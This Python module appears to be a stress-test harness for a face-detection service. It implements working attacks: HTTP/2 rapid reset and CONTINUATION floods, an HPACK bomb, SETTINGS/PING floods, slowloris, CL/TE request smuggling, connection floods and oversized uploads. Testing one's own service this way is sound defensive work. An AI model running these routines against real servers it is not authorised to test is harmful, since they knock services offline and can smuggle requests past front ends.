"""The attacks: each runs against one service's port for ``seconds`` and says, in a
line, what the service did. HTTP/2 ones are crafted with ``h2`` and ``hyperframe``
(raw frames where ``h2`` refuses to break the protocol), HTTP/1.1 ones on raw sockets.

Each speaks the protocol it attacks whichever service it is pointed at: an HTTP/2
attack on the REST port (HTTP/1.1 only) and an HTTP/1.1 attack on the gRPC port (HTTP/2
only) are run too, and what the service answered is reported.
"""

from __future__ import annotations

import contextlib
import socket
import ssl
import struct
import threading
import time
from collections.abc import Callable
from contextlib import ExitStack
from dataclasses import dataclass

import h2.events
import h2.exceptions
import hpack
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, SettingsFrame

from client.attack.wire import H2Client, Target, grpc_headers
from facewire.v1 import face_detection_pb2 as pb


@dataclass(frozen=True)
class Scale:
    """How hard each attack pushes (``quick``: for the tests)."""

    connections: int = 400  # slowloris, no-handshake
    idle_connections: int = 1500  # the connection flood (over the default cap of 1000)
    uploads: int = 32
    upload_bytes: int = 8 * 1024 * 1024

    @classmethod
    def quick(cls) -> Scale:
        return cls(connections=100, idle_connections=300)


Attack = Callable[[Target, float, Scale], str]
#: Attacks that wait for a service's deadline (2 s in the suite) watch at least this long.
DEADLINE_WINDOW_S = 3.5
#: A flood's kernel send buffer: a burst's worth. Loopback's autotuned buffers would take
#: megabytes per connection that a server which stopped reading never reads, and the
#: attacker (on the same cores) would spend its CPU encrypting those, not attacking.
BURST_BUFFER = 256 * 1024


def _until(seconds: float) -> Callable[[], bool]:
    deadline = time.monotonic() + seconds
    return lambda: time.monotonic() < deadline


def _h2_fate(clients: list[H2Client]) -> str:
    goaways = sorted({c.goaway for c in clients if c.goaway})
    closed = sum(c.closed for c in clients)
    resets = sum(c.resets for c in clients)
    parts = [f"{closed} of {len(clients)} connections closed by the server"]
    if goaways:
        parts.append(f"GOAWAY {', '.join(goaways)}")
    if resets:
        parts.append(f"{resets} streams reset")
    return "; ".join(parts)


def _h2_loop(target: Target, seconds: float, step: Callable[[H2Client, int], None]) -> str:
    """Run ``step`` (round number) on a connection, opening a new one whenever the
    server closes it, until time is up."""
    clients: list[H2Client] = []
    running = _until(seconds)
    client = None
    n = 0
    while running():
        if client is None or client.closed:
            try:
                client = H2Client(target)
            except OSError as exc:
                return f"refused a connection: {exc.__class__.__name__}"
            clients.append(client)
        step(client, n)
        client.read()
        n += 1
    for c in clients:
        c.read(0.2)
        c.close()
    return _h2_fate(clients) + f"; {n} rounds"


def rapid_reset(target: Target, seconds: float, scale: Scale) -> str:
    """CVE-2023-44487: open streams and cancel them at once, a hundred at a time."""

    def step(client: H2Client, n: int) -> None:
        for _ in range(100):
            stream = client.conn.get_next_available_stream_id()
            client.conn.send_headers(stream, grpc_headers(target))
            client.conn.reset_stream(stream)
        client.flush()

    return _h2_loop(target, seconds, step)


def continuation_flood(target: Target, seconds: float, scale: Scale) -> str:
    """CVE-2024-27316 and kin: a HEADERS frame without END_HEADERS, then CONTINUATION
    frames of new headers that never end."""
    encoder = hpack.Encoder()
    sent = [0]

    def step(client: H2Client, n: int) -> None:
        if n == 0 or client.conn.highest_outbound_stream_id is None:
            block = encoder.encode(grpc_headers(target))
            client.send_raw(HeadersFrame(1, data=block).serialize())  # no END_HEADERS
            client.conn.highest_outbound_stream_id = 1
        chunk = encoder.encode([(f"x-flood-{n % 1000}", "a" * 1000) for _ in range(8)])
        client.send_raw(ContinuationFrame(1, data=chunk).serialize())
        sent[0] += len(chunk)

    result = _h2_loop(target, seconds, step)
    return f"{result}; {sent[0] // 1024} KiB of headers sent"


def hpack_bomb(target: Target, seconds: float, scale: Scale) -> str:
    """One 4 KB header put in the HPACK dynamic table, then referenced with one byte
    thousands of times: 16 KB on the wire, 16 MB of headers decoded."""

    def literal_indexed(name: bytes, value: bytes) -> bytes:
        # Literal with incremental indexing, new name (RFC 7541 6.2.1), no Huffman.
        def string(s: bytes) -> bytes:
            return _hpack_int(len(s), 7, 0x00) + s

        return b"\x40" + string(name) + string(value)

    base = hpack.Encoder().encode(grpc_headers(target))
    bomb = literal_indexed(b"x-bomb", b"a" * 4000) + b"\xbe" * 12000  # index 62

    def step(client: H2Client, n: int) -> None:
        stream = client.conn.get_next_available_stream_id()
        client.conn.highest_outbound_stream_id = stream
        client.send_raw(HeadersFrame(stream, data=base + bomb, flags=["END_HEADERS"]).serialize())
        time.sleep(0.01)  # a round a little apart, so that the server's answer is read

    return _h2_loop(target, seconds, step)


def settings_flood(target: Target, seconds: float, scale: Scale) -> str:
    """SETTINGS frames as fast as they go, each one owed an ACK, none of them read."""
    frame = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize()
    return _flood(target, seconds, frame * 200)


def ping_flood(target: Target, seconds: float, scale: Scale) -> str:
    """PING frames as fast as they go, each one owed an answer, none of them read."""
    return _flood(target, seconds, PingFrame(0, opaque_data=b"facewire").serialize() * 200)


def _flood(target: Target, seconds: float, burst: bytes) -> str:
    clients: list[H2Client] = []
    running = _until(seconds)
    sent = 0
    while running():
        client = H2Client(target)
        clients.append(client)
        client.sock.settimeout(1.0)
        while running() and not client.closed:
            try:
                client.sock.sendall(burst)
                sent += len(burst)
            except OSError:  # closed, or the server stopped reading (a full window)
                client.closed = True
    for c in clients:
        c.read(0.2)
        c.close()
    return _h2_fate(clients) + f"; {sent // 1024} KiB of frames sent"


def never_ending_streams(target: Target, seconds: float, scale: Scale) -> str:
    """Streams that send half a message and never END_STREAM, 50 per connection on 4
    connections, held open for the whole attack."""
    clients = []
    with ExitStack() as stack:
        for _ in range(4):
            client = H2Client(target)
            stack.callback(client.close)
            clients.append(client)
            for _ in range(50):
                stream = client.conn.get_next_available_stream_id()
                client.conn.send_headers(stream, grpc_headers(target))
                # A length prefix that promises 1 MiB, then 1 KiB of it.
                client.conn.send_data(stream, struct.pack(">BI", 0, 1 << 20) + b"\0" * 1024)
            client.flush()
        running = _until(seconds)
        while running():
            for client in clients:
                client.read(0.05)
        fate = _h2_fate(clients)
    return f"200 half-sent streams held for {seconds:g} s; {fate}"


def too_many_streams(target: Target, seconds: float, scale: Scale) -> str:
    """Twice the streams the server allows on one connection (SETTINGS_MAX_CONCURRENT_
    STREAMS), opened at once: raw HEADERS frames, since h2 itself would not."""
    client = H2Client(target)
    try:
        client.read(1.0)  # the server's SETTINGS
        allowed = client.conn.remote_settings.max_concurrent_streams
        wanted = min(2 * allowed, 4000)
        encoder = hpack.Encoder()
        frames = []
        for i in range(wanted):
            block = encoder.encode(grpc_headers(target))
            frames.append(HeadersFrame(2 * i + 1, data=block, flags=["END_HEADERS"]).serialize())
        client.send_raw(b"".join(frames))
        running = _until(seconds)
        while running() and not client.closed:
            client.read(0.1)
        return f"server allows {allowed}; opened {wanted}; " + _h2_fate([client])
    finally:
        client.close()


def _hpack_int(value: int, prefix_bits: int, flags: int) -> bytes:
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([flags | value])
    out = [flags | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


# --- HTTP/1.1 --------------------------------------------------------------------


def _read_all(sock: socket.socket, timeout: float) -> bytes:
    sock.settimeout(timeout)
    chunks = []
    try:
        while chunk := sock.recv(65536):
            chunks.append(chunk)
    except (TimeoutError, OSError):
        pass
    return b"".join(chunks)


def _status_lines(data: bytes) -> list[str]:
    return [
        line.decode(errors="replace") for line in data.split(b"\r\n") if line.startswith(b"HTTP/1.")
    ]


def slowloris(target: Target, seconds: float, scale: Scale) -> str:
    """Hundreds of connections, each sending a request line and then a header byte now
    and then, never finishing its headers."""
    socks: list[socket.socket] = []
    opened = refused = 0
    for _ in range(scale.connections):
        try:
            sock = target.connect(5.0)
            sock.sendall(b"POST /v1/detect HTTP/1.1\r\nHost: x\r\n")
            socks.append(sock)
            opened += 1
        except OSError:
            refused += 1
    return f"{opened} connections trickling ({refused} refused); " + _closes(
        _watch_closes(socks, seconds, poke=b"X", every_s=0.2), seconds
    )


def conflicting_lengths(target: Target, seconds: float, scale: Scale) -> str:
    """Request smuggling: Content-Length and Transfer-Encoding both, with a second
    request hidden where the two disagree."""
    hidden = b"GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n"
    request = (b"POST /v1/detect?model=echo HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n"
               b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden)  # fmt: skip
    with target.connect(5.0) as sock:
        sock.sendall(request)
        answer = _read_all(sock, min(seconds, 3.0))
    lines = _status_lines(answer)
    smuggled = b"/smuggled" in answer or len(lines) > 1
    return f"answers: {lines or 'none, connection closed'}; hidden request served: {smuggled}"


def short_body(target: Target, seconds: float, scale: Scale) -> str:
    """A Content-Length larger than the body that follows: the server waits for bytes
    that never come, on 20 connections."""
    socks = []
    for _ in range(20):
        sock = target.connect(5.0)
        sock.sendall(b"POST /v1/detect HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n"
                     + b"\xff\xd8\xff" + bytes(100))  # fmt: skip
        socks.append(sock)
    answers = [
        _status_lines(_read_all(sock, max(seconds, DEADLINE_WINDOW_S)))[:1] for sock in socks
    ]
    for sock in socks:
        sock.close()
    seen = sorted({a[0] if a else "closed, no answer" for a in answers})
    return f"20 connections: {seen}"


def pipelined_flood(target: Target, seconds: float, scale: Scale) -> str:
    """Thousands of requests written on one connection in one go, answers never read,
    on 4 connections at once (a new one whenever the server closes one)."""
    burst = b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n" * 5000
    sent = closed = 0
    lock = threading.Lock()

    def one() -> None:
        nonlocal sent, closed
        running = _until(seconds)
        while running():
            with target.connect(5.0, send_buffer=BURST_BUFFER) as sock:
                sock.settimeout(1.0)
                while running():
                    try:
                        sock.sendall(burst)
                    except TimeoutError:
                        continue  # the server stopped reading: its answers are not read
                    except OSError:
                        with lock:
                            closed += 1
                        break
                    with lock:
                        sent += len(burst)

    threads = [threading.Thread(target=one) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return (f"{sent // 1024} KiB of pipelined requests written; "
            f"{closed} connections closed by the server")  # fmt: skip


# --- connections and messages ----------------------------------------------------


def no_handshake(target: Target, seconds: float, scale: Scale) -> str:
    """Connections that open and never start their TLS handshake (or, in clear, their
    first request or HTTP/2 preface)."""
    socks = []
    for _ in range(scale.connections):
        try:
            socks.append(target.tcp(5.0))
        except OSError:
            break
    return f"{len(socks)} silent connections; " + _closes(
        _watch_closes(socks, seconds, poke=None, every_s=0.05), seconds
    )


def _watch_closes(
    socks: list[socket.socket], seconds: float, poke: bytes | None, every_s: float
) -> list[float]:
    """Seconds until the server closed each connection it closed, watching for at least
    DEADLINE_WINDOW_S; ``poke`` is sent on each every ``every_s`` (a trickle), or
    nothing is. The connections are closed after."""
    started = time.monotonic()
    closed_at: dict[int, float] = {}
    running = _until(max(seconds, DEADLINE_WINDOW_S))
    while running() and len(closed_at) < len(socks):
        for i, sock in enumerate(socks):
            if i in closed_at:
                continue
            try:
                if poke is not None:
                    sock.sendall(poke)
                sock.settimeout(0.0)
                if sock.recv(4096) == b"":
                    closed_at[i] = time.monotonic() - started
            except (BlockingIOError, TimeoutError, ssl.SSLWantReadError):
                continue
            except OSError:
                closed_at[i] = time.monotonic() - started
        time.sleep(every_s)  # the trickle's pace, or polling sockets the server should close
    for sock in socks:
        sock.close()
    return list(closed_at.values())


def _closes(closed: list[float], seconds: float) -> str:
    if not closed:
        return f"none closed in {seconds:g} s"
    return f"{len(closed)} closed by the server, the last after {max(closed):.1f} s"


def idle_flood(target: Target, seconds: float, scale: Scale) -> str:
    """Thousands of connections that finish their handshakes (TLS, and HTTP/2's
    preface on gRPC) and then sit idle."""
    socks: list[socket.socket] = []
    refused = 0
    running = _until(seconds)
    for _ in range(scale.idle_connections):
        if not running():
            break
        try:
            if target.service == "grpc":
                client = H2Client(target)
                socks.append(client.sock)
            else:
                socks.append(target.connect(5.0))
        except OSError:
            refused += 1
    while running():
        time.sleep(0.05)  # the flood held for the rest of the attack
    open_ = sum(_still_open(sock) for sock in socks)
    for sock in socks:
        sock.close()
    return (
        f"{len(socks) + refused} connections tried: {open_} held open, "
        f"{len(socks) - open_ + refused} closed or refused by the server"
    )


def _still_open(sock: socket.socket) -> bool:
    sock.settimeout(0.0)
    try:
        return sock.recv(65536) != b""  # data: the server's SETTINGS, say
    except (BlockingIOError, ssl.SSLWantReadError):
        return True  # nothing to read, not closed
    except OSError:
        return False


def large_uploads(target: Target, seconds: float, scale: Scale) -> str:
    """Uploads of the maximum size (the default upload limit), all at once, each on a
    connection of its own."""
    payload = bytes(scale.upload_bytes)  # no image: refused after it is read, if read
    outcomes: list[str] = []
    start = threading.Barrier(scale.uploads)

    def rest() -> str:
        with target.connect(30.0) as sock:
            head = (
                f"POST /v1/detect HTTP/1.1\r\nHost: x\r\nContent-Length: "
                f"{len(payload)}\r\nConnection: close\r\n\r\n"
            ).encode()
            start.wait(30)
            with contextlib.suppress(OSError):  # refused part-way: the answer says why
                sock.sendall(head + payload)
            lines = _status_lines(_read_all(sock, 30.0))
            return lines[0].split(" ", 2)[1] if lines else "closed"

    def grpc_call() -> str:
        client = H2Client(target, timeout=30.0)
        try:
            message = pb.DetectRequest(image=payload).SerializeToString()
            stream = client.conn.get_next_available_stream_id()
            client.conn.send_headers(stream, grpc_headers(target))
            client.flush()
            start.wait(30)
            body = struct.pack(">BI", 0, len(message)) + message
            return _h2_send_and_status(client, stream, body)
        finally:
            client.close()

    def one() -> None:
        try:
            outcomes.append(rest() if target.service == "rest" else grpc_call())
        except Exception as exc:
            outcomes.append(exc.__class__.__name__)

    threads = [threading.Thread(target=one) for _ in range(scale.uploads)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(120)
    counts = {o: outcomes.count(o) for o in sorted(set(outcomes))}
    return f"{scale.uploads} uploads of {scale.upload_bytes // (1 << 20)} MiB: {counts}"


def _h2_send_and_status(client: H2Client, stream: int, body: bytes) -> str:
    """Send ``body`` on ``stream`` as flow control allows, END_STREAM, and return the
    grpc-status the server ended the call with (its name, for the report)."""
    status = None
    sent = 0
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not client.closed and status is None:
        if sent < len(body):
            window = min(client.conn.local_flow_control_window(stream),
                         client.conn.max_outbound_frame_size)  # fmt: skip
            if window > 0:
                chunk = body[sent : sent + window]
                sent += len(chunk)
                try:
                    client.conn.send_data(stream, chunk, end_stream=sent == len(body))
                except h2.exceptions.StreamClosedError:
                    sent = len(body)
                client.flush()
        client.sock.settimeout(0.05)
        try:
            data = client.sock.recv(65536)
        except (TimeoutError, BlockingIOError):
            continue
        if not data:
            break
        for event in client.conn.receive_data(data):
            if isinstance(event, h2.events.TrailersReceived | h2.events.ResponseReceived):
                headers = {str(k): str(v) for k, v in event.headers}  # str: header_encoding
                if "grpc-status" in headers:
                    status = headers["grpc-status"]
        client.flush()
    names = {"0": "OK", "3": "INVALID_ARGUMENT", "8": "RESOURCE_EXHAUSTED", "14": "UNAVAILABLE"}
    return names.get(status or "", f"grpc-status {status}") if status else "no status"


#: Every attack, in the order the table lists them, with the protocol it speaks.
ATTACKS: dict[str, tuple[str, Attack]] = {
    "rapid-reset": ("HTTP/2", rapid_reset),
    "continuation-flood": ("HTTP/2", continuation_flood),
    "hpack-bomb": ("HTTP/2", hpack_bomb),
    "settings-flood": ("HTTP/2", settings_flood),
    "ping-flood": ("HTTP/2", ping_flood),
    "never-ending-streams": ("HTTP/2", never_ending_streams),
    "too-many-streams": ("HTTP/2", too_many_streams),
    "slowloris": ("HTTP/1.1", slowloris),
    "conflicting-lengths": ("HTTP/1.1", conflicting_lengths),
    "short-body": ("HTTP/1.1", short_body),
    "pipelined-flood": ("HTTP/1.1", pipelined_flood),
    "no-handshake": ("TLS", no_handshake),
    "idle-flood": ("connections", idle_flood),
    "large-uploads": ("messages", large_uploads),
}
